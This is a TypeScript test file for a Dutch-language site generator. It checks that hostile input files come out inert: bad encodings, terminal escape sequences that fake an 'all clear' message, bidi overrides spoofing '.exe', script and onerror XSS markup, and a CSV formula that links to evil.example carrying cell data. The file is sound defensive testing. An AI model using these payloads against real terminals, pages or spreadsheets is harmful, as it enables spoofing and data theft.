import assert from 'node:assert/strict';
import { cp, mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, test, type TestContext } from 'node:test';
import { formatProblems } from '../../src/cli/format-problems.ts';
import { prepareSite, type PrepareResult } from '../../src/model/prepare-site.ts';
import type { Problem } from '../../src/problems/problem.ts';
import { renderMarkdown } from '../../src/render/markdown.ts';
import { exportFiles } from '../../src/site/outputs/exports.ts';
import { PublicActors } from '../../src/site/public-actors.ts';
import { runCli } from '../cli/run-cli.ts';

/*
 * Encodings and characters: each case is a copy of tests/fixtures/minimal plus one file with bytes
 * an editor's tool or an attacker could produce (NUL, BOM, UTF-16, Latin-1, CR-only and mixed line
 * ends, terminal escape sequences, bidi overrides, spreadsheet formulas). Each asserts the located
 * Dutch problem or the inert result: clean terminal output, escaped HTML, neutralised CSV cells.
 */

const MINIMAL = 'tests/fixtures/minimal';
// Anything a terminal acts on: C0 controls except the line end, DEL, C1 controls, bidi marks.
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** A copy of the minimal fixture with these files added (path under content/ → text or bytes). */
async function contentWith(files: Record<string, string | Buffer>): Promise<string> {
  const dir = path.join(await mkdtemp(path.join(tmpdir(), 'hostile-encodings-')), 'content');
  await cp(MINIMAL, dir, { recursive: true });
  for (const [file, bytes] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, file)), { recursive: true });
    await writeFile(path.join(dir, file), bytes);
  }
  return dir;
}

/** prepareSite on the copy, timed into the test diagnostics. */
async function checkWith(t: TestContext, files: Record<string, string | Buffer>): Promise<PrepareResult> {
  const dir = await contentWith(files);
  const start = performance.now();
  const result = await prepareSite({ contentDir: dir });
  t.diagnostic(`prepareSite: ${Math.round(performance.now() - start)} ms`);
  return result;
}

/** The one problem of a result, with its file shown from the content folder on. */
function only(result: PrepareResult): Problem & { where: string } {
  assert.equal(result.problems.length, 1, JSON.stringify(result.problems.map((p) => [p.code, p.file, p.line, p.message])));
  const problem = result.problems[0]!;
  return { ...problem, where: `${problem.file.slice(problem.file.lastIndexOf('/content/') + '/content/'.length)}:${problem.line}:${problem.column}` };
}

const actorText = (name: string, extra = '') => `---\nname: ${name}\nsector: cultuur\npublic: true\n${extra}---\nTekst.\n`;

describe('bytes that are not plain UTF-8 text', () => {
  test('a NUL byte in the frontmatter is a not-utf8 problem on its line', async (t) => {
    const problem = only(await checkWith(t, { 'actors/nul.md': '---\nname: Stad\nsector: cult\u0000uur\n---\n' }));
    assert.equal(problem.code, 'not-utf8');
    assert.equal(problem.where, 'actors/nul.md:3:1');
    assert.match(problem.message, /nul-tekens \(NUL\)/);
  });

  test('a UTF-8 byte-order mark is accepted and not part of the first field', async (t) => {
    const result = await checkWith(t, { 'actors/bom.md': `\uFEFF${actorText('Stad Met Bom')}` });
    assert.ok(result.ok, JSON.stringify(result.problems));
    assert.equal(result.model.actors.find((a) => a.slug === 'bom')?.name, 'Stad Met Bom');
  });

  test('a UTF-16 file with its byte-order mark is named as UTF-16 on line 1', async (t) => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(actorText('Stad Zestien'), 'utf16le')]);
    const problem = only(await checkWith(t, { 'actors/zestien.md': bytes }));
    assert.equal(problem.code, 'not-utf8');
    assert.equal(problem.where, 'actors/zestien.md:1:1');
    assert.equal(problem.message, 'Dit bestand is in UTF-16 opgeslagen; de site leest alleen UTF-8.');
  });

  test('a UTF-16 file without byte-order mark is caught by its NUL bytes', async (t) => {
    const problem = only(await checkWith(t, { 'actors/zestien.md': Buffer.from(actorText('Stad Zestien'), 'utf16le') }));
    assert.equal(problem.code, 'not-utf8');
    assert.equal(problem.where, 'actors/zestien.md:1:1');
  });

  test('a Latin-1 é on line 3 is a not-utf8 problem on line 3', async (t) => {
    const bytes = Buffer.concat([Buffer.from('---\nname: Stad\nsector: cultuur\nregion: '), Buffer.from([0xe9]), Buffer.from('\n---\n')]);
    const problem = only(await checkWith(t, { 'actors/latijn.md': bytes }));
    assert.equal(problem.where, 'actors/latijn.md:4:1');
    assert.equal(problem.code, 'not-utf8');
  });

  test('control characters in YAML outside quotes are a Dutch yaml-syntax problem', async (t) => {
    const problem = only(await checkWith(t, { 'actors/stuur.md': actorText('Stad\u0007Bel') }));
    assert.equal(problem.code, 'yaml-syntax');
    assert.equal(problem.message, 'De YAML is onleesbaar: het bestand bevat onzichtbare stuurtekens.');
  });
});

describe('line ends', () => {
  test('CR-only line ends are read, and a problem is placed on the line an editor sees', async (t) => {
    const problem = only(await checkWith(t, { 'actors/mac.md': '---\rname: Stad\rsector: cultuur\rwebsit: x\r---\rTekst.\r' }));
    assert.equal(problem.code, 'unknown-field');
    assert.equal(problem.where, 'actors/mac.md:4:1');
  });

  test('mixed LF, CRLF and CR line ends count one line each', async (t) => {
    const problem = only(await checkWith(t, { 'actors/gemengd.md': '---\r\nname: Stad\rsector: cultuur\nregion: x\r\nwebsit: y\r---\n' }));
    assert.equal(problem.code, 'unknown-field');
    assert.equal(problem.where, 'actors/gemengd.md:5:1');
  });
});

describe('terminal escape sequences and bidi marks', () => {
  // A key that, printed raw, would clear the line and write a fake all-clear.
  const fakeOk = '"\\e[1A\\e[2K\\rAlles in orde: 3 bestanden nagekeken, geen problemen.\\e[8m"';

  test('an escape sequence in a field name reaches the problem as data but never the terminal', async (t) => {
    const result = await checkWith(t, { 'actors/nep.md': actorText('Stad Nep', `${fakeOk}: x\n`) });
    const problem = only(result);
    assert.equal(problem.code, 'unknown-field');
    assert.ok(problem.field.includes('\u001b[2K'), 'the problem keeps the key as written');
    const text = formatProblems(result.problems, 'text');
    assert.doesNotMatch(text, CONTROLS);
    assert.ok(!text.split('\n').some((line) => line.startsWith('Alles in orde')), 'no line of its own that looks like the all-clear');
  });

  test('check itself prints no escape character for that file, in every format', async () => {
    const dir = await contentWith({ 'actors/nep.md': actorText('Stad Nep', `${fakeOk}: x\n`) });
    for (const format of ['text', 'json', 'github']) {
      const run = runCli('check.ts', ['--content', dir, '--format', format]);
      assert.equal(run.status, 1, run.stderr);
      assert.doesNotMatch(run.stdout, CONTROLS, format);
      assert.ok(run.stdout.includes('[1A') || run.stdout.includes('\\u001b[1A'), `${format} shows the key, defused`);
    }
  });

  test('an escape sequence in a file name is stripped from the printed path', async (t) => {
    const result = await checkWith(t, { 'actors/\u001b[2Jwis.md': actorText('Stad Wis') });
    assert.deepEqual(result.problems.map((p) => p.code), ['bad-slug']);
    const text = formatProblems(result.problems, 'text');
    assert.doesNotMatch(text, CONTROLS);
    assert.ok(text.includes('actors/[2Jwis.md:1:1'));
  });

  test('a right-to-left override in a name is stripped from the terminal and escaped in JSON', async (t) => {
    const result = await checkWith(t, { 'actors/rtl.md': actorText('"Stad \u202Egnp.exe"', 'websit: x\n') });
    const problem = only(result);
    assert.equal(problem.code, 'unknown-field');
    const bad = { ...problem, message: `${problem.message} (naam: Stad \u202Egnp.exe)` };
    assert.doesNotMatch(formatProblems([bad], 'text'), CONTROLS);
    const json = formatProblems([bad], 'json');
    assert.ok(json.includes('\\u202e'));
    assert.equal(JSON.parse(json).problems[0].message, bad.message);
  });

  test('escape sequences and markup in a body stay inert text in HTML', () => {
    const html = renderMarkdown('<script>alert(1)</script> \u001b[31mrood\u001b[0m <img src=x onerror=alert(1)>');
    assert.ok(!html.includes('<script>') && !html.includes('<img'), html);
    assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'));
  });
});

describe('spreadsheet formulas in content', () => {
  test('a public actor named =HYPERLINK(…) is written to actors.csv with an apostrophe, quoted', async (t) => {
    const result = await checkWith(t, { 'actors/formule.md': actorText(`'=HYPERLINK("https://evil.example/?"&A1,"Klik")'`) });
    assert.ok(result.ok, JSON.stringify(result.problems));
    const csv = exportFiles(result.model, new PublicActors(result.model)).find((file) => file.url.endsWith('actors.csv'))?.content ?? '';
    const row = csv.split('\r\n').find((line) => line.startsWith('formule;'));
    assert.ok(row?.startsWith(`formule;"'=HYPERLINK(""https://evil.example/?""&A1,""Klik"")";`), row);
  });

  test('names starting with +, - or @ are neutralised the same way', async (t) => {
    const result = await checkWith(t, {
      'actors/plus.md': actorText(`"+32 Gent"`),
      'actors/min.md': actorText(`"-Brugge"`),
      'actors/apenstaart.md': actorText(`"@Antwerpen"`),
    });
    assert.ok(result.ok, JSON.stringify(result.problems));
    const csv = exportFiles(result.model, new PublicActors(result.model)).find((file) => file.url.endsWith('actors.csv'))?.content ?? '';
    const names = Object.fromEntries(csv.split('\r\n').map((line) => line.split(';')).map((cells) => [cells[0], cells[1]]));
    assert.deepEqual([names.plus, names.min, names.apenstaart], [`"'+32 Gent"`, `"'-Brugge"`, `"'@Antwerpen"`]);
  });
});
